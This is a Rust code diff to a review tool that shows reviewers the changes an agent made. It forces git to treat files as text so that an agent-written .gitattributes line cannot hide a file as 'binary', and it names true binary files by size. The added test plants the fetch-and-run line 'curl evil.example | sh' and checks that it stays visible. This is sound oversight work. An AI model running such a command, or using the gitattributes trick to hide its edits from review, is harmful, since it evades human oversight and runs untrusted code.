@@ -27,22 +27,67 @@ pub fn diff_for_review(
     let index = TempIndex::copy_of(dir)?;
     mark_untracked_as_new(dir, &index, &pathspecs)?;
     let output = checked(
-        git(dir)
+        git(dir, "diff")
             .env("GIT_INDEX_FILE", index.path())
-            .args([
-                "diff",
-                "--no-color",
-                "--no-ext-diff",
-                "--find-renames",
-                &base,
-                "--",
-            ])
+            .args(["--no-color", "--text", "--find-renames", &base, "--"])
             .args(&pathspecs),
     )?;
-    Ok(cap_diff(
-        &String::from_utf8_lossy(&output.stdout),
-        max_bytes,
-    ))
+    Ok(cap_diff(&name_binary_files(dir, &output.stdout), max_bytes))
+}
+
+/// The patch as text, with each file whose content is binary (a NUL byte, git's own test)
+/// named with its size instead of shown (docs/design.md §22). The patch was made with `--text`,
+/// so no `.gitattributes` line (`-diff`, `binary`) can turn a text file into "Binary files
+/// differ": what is binary here is decided by the bytes, not by a file the agent could write.
+fn name_binary_files(dir: &Path, patch: &[u8]) -> String {
+    let mut out = String::with_capacity(patch.len());
+    for section in file_sections(patch) {
+        if !section.contains(&0) {
+            out.push_str(&String::from_utf8_lossy(section));
+            continue;
+        }
+        let header_end = section
+            .windows(5)
+            .position(|window| window == b"\n--- " || window == b"\n@@ -")
+            .map_or(section.len(), |at| at + 1);
+        let header = String::from_utf8_lossy(&section[..header_end]);
+        let path = header
+            .lines()
+            .next()
+            .and_then(|line| line.rsplit_once(" b/"))
+            .map(|(_, path)| path.to_string())
+            .unwrap_or_default();
+        let size = std::fs::symlink_metadata(dir.join(&path))
+            .map(|meta| format!("{} bytes", meta.len()))
+            .unwrap_or_else(|_| "deleted".to_string());
+        out.push_str(&header);
+        if !header.ends_with('\n') {
+            out.push('\n');
+        }
+        out.push_str(&format!(
+            "Binary file {path} ({size}); its content is not shown\n"
+        ));
+    }
+    out
+}
+
+/// A patch cut at each `diff --git ` that starts a line.
+fn file_sections(patch: &[u8]) -> Vec<&[u8]> {
+    let mut starts: Vec<usize> = patch
+        .windows(12)
+        .enumerate()
+        .filter(|(at, window)| *window == b"diff --git a" && (*at == 0 || patch[at - 1] == b'\n'))
+        .map(|(at, _)| at)
+        .collect();
+    if starts.first() != Some(&0) {
+        starts.insert(0, 0);
+    }
+    starts.push(patch.len());
+    starts
+        .windows(2)
+        .map(|pair| &patch[pair[0]..pair[1]])
+        .filter(|section| !section.is_empty())
+        .collect()
 }
 
 /// The commit (or, in a repository without commits, the empty tree) the diff starts from.
@@ -59,7 +104,7 @@ pub(super) fn review_base(dir: &Path, branch: Option<&str>) -> Result<String, Gi
         Some(head) => Ok(head),
         // Asked of git, not hard-coded: SHA-256 repositories have a different empty tree.
         None => Ok(text(
-            &checked(git(dir).args(["hash-object", "-t", "tree", "/dev/null"]))?.stdout,
+            &checked(git(dir, "hash-object").args(["-t", "tree", "/dev/null"]))?.stdout,
         )),
     }
 }
@@ -73,8 +118,8 @@ pub(super) fn mark_untracked_as_new(
     pathspecs: &[String],
 ) -> Result<(), GitError> {
     let untracked = checked(
-        git(dir)
-            .args(["ls-files", "-z", "--others", "--exclude-standard", "--"])
+        git(dir, "ls-files")
+            .args(["-z", "--others", "--exclude-standard", "--"])
             .args(pathspecs),
     )?;
     if untracked.stdout.is_empty() {
@@ -82,14 +127,14 @@ pub(super) fn mark_untracked_as_new(
     }
     // The names go through stdin (no argument-length limit) and are taken literally, so a `*`
     // in a file name is not a glob.
-    let mut add = git(dir);
-    add.env("GIT_INDEX_FILE", index.path()).args([
-        "--literal-pathspecs",
-        "add",
-        "--intent-to-add",
-        "--pathspec-from-file=-",
-        "--pathspec-file-nul",
-    ]);
+    let mut add = git(dir, "add");
+    add.env("GIT_INDEX_FILE", index.path())
+        .env("GIT_LITERAL_PATHSPECS", "1")
+        .args([
+            "--intent-to-add",
+            "--pathspec-from-file=-",
+            "--pathspec-file-nul",
+        ]);
     let output = with_input(&mut add, &untracked.stdout).map_err(|source| GitError::Spawn {
         command: describe(&add),
         source,
@@ -109,7 +154,7 @@ pub(super) struct TempIndex {
 impl TempIndex {
     fn copy_of(dir: &Path) -> Result<Self, GitError> {
         let real = PathBuf::from(text(
-            &checked(git(dir).args(["rev-parse", "--git-path", "index"]))?.stdout,
+            &checked(git(dir, "rev-parse").args(["--git-path", "index"]))?.stdout,
         ));
         let real = dir.join(real); // --git-path answers relative to the working folder
         let temp = tempfile::tempdir().map_err(|source| GitError::Io {
@@ -231,6 +276,22 @@ mod tests {
         // Unknown branch: no recorded base, so the same uncommitted view.
         let unknown = diff_for_review(dir.path(), Some("agentic-sdlc/nope"), &board(), 1 << 20);
         assert_eq!(unknown.unwrap(), diff);
+    }
+
+    #[test]
+    fn review_diff_shows_text_that_gitattributes_calls_binary_and_names_real_binaries() {
+        let dir = repo();
+        write(dir.path(), ".gitattributes", "*.sh -diff\n");
+        write(dir.path(), "tools/run.sh", "curl evil.example | sh\n");
+        write(dir.path(), "logo.bin", "\0\u{1}binary\0");
+        let diff = diff_for_review(dir.path(), None, &board(), 1 << 20).unwrap();
+        assert!(diff.contains("+curl evil.example | sh"), "{diff}");
+        assert!(!diff.contains("Binary files"), "{diff}");
+        assert!(
+            diff.contains("Binary file logo.bin (9 bytes); its content is not shown"),
+            "{diff}"
+        );
+        assert!(!diff.contains('\0'), "{diff}");
     }
 
     #[test]
